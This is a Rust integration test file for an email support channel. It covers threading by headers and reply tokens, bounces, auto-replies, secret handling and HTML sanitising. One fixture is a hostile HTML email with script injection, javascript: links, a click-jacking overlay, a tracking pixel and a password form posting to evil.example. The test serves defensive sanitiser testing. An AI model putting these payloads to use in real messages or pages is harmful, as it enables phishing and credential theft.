//! Email end to end: a customer's mail client talks SMTP to Seam's listener; an agent answers
//! through the API; the answer reaches the customer's mail server through the channel's relay
//! with threading headers; and every way of answering back threads into the same conversation.

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[macro_use]
mod harness;

use harness::{Agent, Backend, MailServer, SeamProcess, eventually, send_mail, spawn_seam};
use serde_json::{Value, json};

on_both_backends!(
    mail_threads_by_headers_by_reply_address_and_survives_auto_replies_and_bounces,
    hostile_html_is_sanitised_and_bad_mail_is_refused_with_a_reason,
);

const SUPPORT: &str = "support@acme.example";

struct EmailChannel {
    id: String,
    secret: String,
}

async fn create_email_channel(agent: &Agent, relay: &MailServer) -> EmailChannel {
    let response = agent
        .api
        .post(
            "/api/v1/channels",
            json!({
                "kind": "email",
                "name": "Support mail",
                "config": {
                    "address": SUPPORT,
                    "from_name": "Acme Support",
                    "signature": "Acme Support team",
                    "relay": {
                        "host": relay.host, "port": relay.port, "security": "none",
                    },
                },
            }),
        )
        .await;
    assert_eq!(response.status, 201, "{response:?}");
    EmailChannel {
        id: response.json["id"].as_str().unwrap().to_string(),
        secret: response.json["secret"].as_str().unwrap().to_string(),
    }
}

fn mail(from: &str, to: &str, message_id: &str, subject: &str, extra: &str, body: &str) -> Vec<u8> {
    format!(
        "From: Layla Haddad <{from}>\r\nTo: {to}\r\nSubject: {subject}\r\n\
         Message-ID: <{message_id}>\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\n{extra}\
         MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
    )
    .into_bytes()
}

async fn conversation_of(agent: &Agent, text: &str) -> (String, Value) {
    eventually(&format!("a message saying {text:?}"), || async {
        for conversation in agent.conversations().await {
            let id = conversation["id"].as_str().unwrap().to_string();
            if let Some(message) = agent
                .messages(&id)
                .await
                .into_iter()
                .find(|message| message["text"].as_str().unwrap_or_default().contains(text))
            {
                return Some((id, message));
            }
        }
        None
    })
    .await
}

async fn status(agent: &Agent, conversation_id: &str) -> String {
    agent
        .api
        .get(&format!("/api/v1/conversations/{conversation_id}"))
        .await
        .json["status"]
        .as_str()
        .unwrap()
        .to_string()
}

async fn resolve(agent: &Agent, conversation_id: &str) {
    let response = agent
        .api
        .patch(
            &format!("/api/v1/conversations/{conversation_id}"),
            json!({ "status": "resolved" }),
        )
        .await;
    assert_eq!(response.status, 200, "{response:?}");
}

async fn mail_threads_by_headers_by_reply_address_and_survives_auto_replies_and_bounces(
    backend: Backend,
) {
    let seam: SeamProcess = spawn_seam(backend).await;
    let relay = MailServer::start().await;
    let agent = seam.owner_of("Acme").await;
    let _channel = create_email_channel(&agent, &relay).await;
    let smtp = seam.smtp_addr.clone();

    // A new mail starts a conversation; the quoted history is kept but not shown as new text.
    send_mail(
        &smtp,
        "layla@example.com",
        &[SUPPORT],
        &mail(
            "layla@example.com",
            SUPPORT,
            "first@mail.example",
            "Order 1001 has not arrived",
            "",
            "Hello, my order 1001 has not arrived.",
        ),
    )
    .unwrap();
    let (conversation, first) = conversation_of(&agent, "order 1001 has not arrived").await;
    assert_eq!(first["email"]["subject"], "Order 1001 has not arrived");
    assert_eq!(first["identity"], "layla@example.com");
    // SPF, DKIM and DMARC were evaluated (without DNS here, none of them can pass).
    for check in ["spf", "dkim", "dmarc"] {
        let result = first["email"]["auth"][check].as_str().unwrap_or_default();
        assert!(!result.is_empty() && result != "pass", "{check}: {first:#}");
    }

    // A reply naming it in In-Reply-To joins the same conversation, even once resolved.
    resolve(&agent, &conversation).await;
    send_mail(
        &smtp,
        "layla@example.com",
        &[SUPPORT],
        &mail(
            "layla@example.com",
            SUPPORT,
            "second@mail.example",
            "Re: Order 1001 has not arrived",
            "In-Reply-To: <first@mail.example>\r\nReferences: <first@mail.example>\r\n",
            "Any news?\r\n\r\nOn Mon, 23 Nov 2026 at 10:00, Layla Haddad <layla@example.com> wrote:\r\n> Hello, my order 1001 has not arrived.",
        ),
    )
    .unwrap();
    let (joined, second) = conversation_of(&agent, "Any news?").await;
    assert_eq!(joined, conversation);
    assert_eq!(second["text"], "Any news?", "quoted history is stripped");
    assert!(
        second["email"]["full_text"]
            .as_str()
            .unwrap()
            .contains("> Hello, my order 1001"),
        "the full original stays viewable"
    );
    assert_eq!(status(&agent, &conversation).await, "open");

    // The agent answers by email: the customer's server gets it with threading headers.
    let reply = agent.reply(&conversation, "It ships **today**.").await;
    let reply_id = reply["id"].as_str().unwrap().to_string();
    agent
        .wait_for_delivery_status(&conversation, &reply_id, "sent")
        .await;
    let sent = eventually("the customer's server to receive the reply", || async {
        relay.delivered().into_iter().next()
    })
    .await;
    assert_eq!(sent.recipients, vec!["layla@example.com".to_string()]);
    assert_eq!(sent.mail_from, SUPPORT);
    assert_eq!(
        sent.header("In-Reply-To").as_deref(),
        Some("<second@mail.example>")
    );
    let references = sent.header("References").unwrap();
    assert!(
        references.contains("<first@mail.example>") && references.contains("<second@mail.example>")
    );
    let message_id = sent.header("Message-ID").unwrap();
    let reply_to = sent.header("Reply-To").unwrap();
    assert!(
        reply_to.contains("support+"),
        "reply address carries the token: {reply_to}"
    );
    let subject = sent.header("Subject").unwrap();
    assert!(
        subject.starts_with("Re: Order 1001 has not arrived [#"),
        "{subject}"
    );
    assert!(
        sent.raw.contains("<strong>today</strong>"),
        "Markdown rendered to HTML"
    );
    assert!(
        sent.raw.contains("Acme Support team"),
        "the signature is added"
    );

    // The customer answers to the reply address from a client that dropped every header.
    resolve(&agent, &conversation).await;
    let token_address = reply_to
        .trim_start_matches(|c: char| c != '<')
        .trim_matches(['<', '>'])
        .to_string();
    let token_address = if token_address.is_empty() {
        reply_to.clone()
    } else {
        token_address
    };
    send_mail(
        &smtp,
        "layla@example.com",
        &[&token_address],
        &mail(
            "layla@example.com",
            &token_address,
            "third@mail.example",
            "thanks",
            "",
            "Thank you, it arrived.",
        ),
    )
    .unwrap();
    let (by_token, _) = conversation_of(&agent, "Thank you, it arrived.").await;
    assert_eq!(by_token, conversation);

    // An out-of-office answer to the resolved conversation is kept, and reopens nothing.
    resolve(&agent, &conversation).await;
    send_mail(
        &smtp,
        "layla@example.com",
        &[SUPPORT],
        &mail(
            "layla@example.com",
            SUPPORT,
            "ooo@mail.example",
            "Automatic reply: Order 1001",
            &format!("Auto-Submitted: auto-replied\r\nIn-Reply-To: {message_id}\r\n"),
            "I am out of the office until Monday.",
        ),
    )
    .unwrap();
    let (auto_conversation, auto) = conversation_of(&agent, "out of the office").await;
    assert_eq!(auto_conversation, conversation);
    assert!(auto["email"]["automated"].is_string());
    assert_eq!(status(&agent, &conversation).await, "resolved");

    // A bounce of Seam's reply marks it failed and says why.
    let bounce = format!(
        "From: Mail Delivery System <MAILER-DAEMON@mx.customer.example>\r\n\
         To: {SUPPORT}\r\nSubject: Undelivered Mail Returned to Sender\r\n\
         Message-ID: <bounce-1@mx.customer.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\r\n\r\n\
         --b1\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n\
         --b1\r\nContent-Type: message/delivery-status\r\n\r\n\
         Reporting-MTA: dns; mx.customer.example\r\n\r\n\
         Final-Recipient: rfc822; layla@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\n\
         Diagnostic-Code: smtp; 550 5.1.1 user unknown\r\n\r\n\
         --b1\r\nContent-Type: text/rfc822-headers\r\n\r\n\
         From: {SUPPORT}\r\nTo: layla@example.com\r\nMessage-ID: {message_id}\r\n\r\n--b1--\r\n"
    );
    send_mail(&smtp, "", &[SUPPORT], bounce.as_bytes()).unwrap();
    let failed = agent
        .wait_for_delivery_status(&conversation, &reply_id, "failed")
        .await;
    assert!(
        failed["delivery_error"].as_str().unwrap().contains("5.1.1"),
        "{failed:#}"
    );

    // Mail to an address Seam does not serve is refused at RCPT.
    let refused = send_mail(
        &smtp,
        "layla@example.com",
        &["nobody@elsewhere.example"],
        &mail(
            "layla@example.com",
            "nobody@elsewhere.example",
            "x@mail.example",
            "hi",
            "",
            "hi",
        ),
    )
    .unwrap_err();
    assert!(refused.contains("550"), "{refused}");
}

async fn hostile_html_is_sanitised_and_bad_mail_is_refused_with_a_reason(backend: Backend) {
    let seam = spawn_seam(backend).await;
    let relay = MailServer::start().await;
    let agent = seam.owner_of("Acme").await;
    let channel = create_email_channel(&agent, &relay).await;
    let path = format!("/api/v1/channels/{}/email", channel.id);
    let hostile = format!(
        "From: Mallory <mallory@example.net>\r\nTo: {SUPPORT}\r\nSubject: Invoice\r\n\
         Message-ID: <hostile@example.net>\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n\
         <p onclick=\"steal()\">Please pay</p><script>alert(1)</script>\
         <a href=\"javascript:alert(2)\">pay</a>\
         <div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">overlay</div>\
         <img src=\"https://tracker.example/pixel.gif\">\
         <form action=\"https://evil.example\"><input name=\"password\"></form>\r\n"
    );

    // Without the channel's secret: 401, nothing stored.
    let wrong = harness::Api::bearer(&seam.base_url, "not-the-secret")
        .post_raw(&path, "message/rfc822", hostile.clone().into_bytes())
        .await;
    wrong.assert_error(401);
    assert!(agent.conversations().await.is_empty());

    // Secrets in a channel's settings are never shown back.
    let other = agent
        .api
        .post(
            "/api/v1/channels",
            json!({"kind": "email", "name": "Sales", "config": {
                "address": "sales@acme.example",
                "relay": {"host": "smtp.acme.example", "port": 587,
                    "username": "acme", "password": "relay-password"},
            }}),
        )
        .await;
    assert_eq!(other.status, 201, "{other:?}");
    let listed = agent.api.get("/api/v1/channels").await;
    assert!(!listed.text.contains("relay-password"), "{listed:?}");

    let piped = harness::Api::bearer(&seam.base_url, &channel.secret)
        .post_raw(&path, "message/rfc822", hostile.clone().into_bytes())
        .await;
    assert_eq!(piped.status, 202, "{piped:?}");
    // The same mail again stores nothing new.
    let again = harness::Api::bearer(&seam.base_url, &channel.secret)
        .post_raw(&path, "message/rfc822", hostile.into_bytes())
        .await;
    assert_eq!(again.json["message_id"], piped.json["message_id"]);

    let conversation = piped.json["conversation_id"].as_str().unwrap();
    let messages = agent.messages(conversation).await;
    assert_eq!(messages.len(), 1);
    let html = messages[0]["email"]["html"].as_str().unwrap();
    for forbidden in [
        "<script",
        "onclick",
        "javascript:",
        "position",
        "<form",
        "<input",
    ] {
        assert!(!html.contains(forbidden), "{forbidden} survived: {html}");
    }
    assert!(html.contains("Please pay"));
    assert!(
        !html.contains(" src=\"https://tracker.example"),
        "remote image loads: {html}"
    );
    assert!(
        html.contains("data-seam-src"),
        "blocked image kept for the agent to allow"
    );
    assert_eq!(messages[0]["email"]["remote_images"], true);

    // Not a message at all: 422 with a reason, nothing stored.
    let garbage = harness::Api::bearer(&seam.base_url, &channel.secret)
        .post_raw(
            &path,
            "message/rfc822",
            b"\x00\x01 definitely not mail".to_vec(),
        )
        .await;
    garbage.assert_error(422);
    assert_eq!(agent.conversations().await.len(), 1);
}
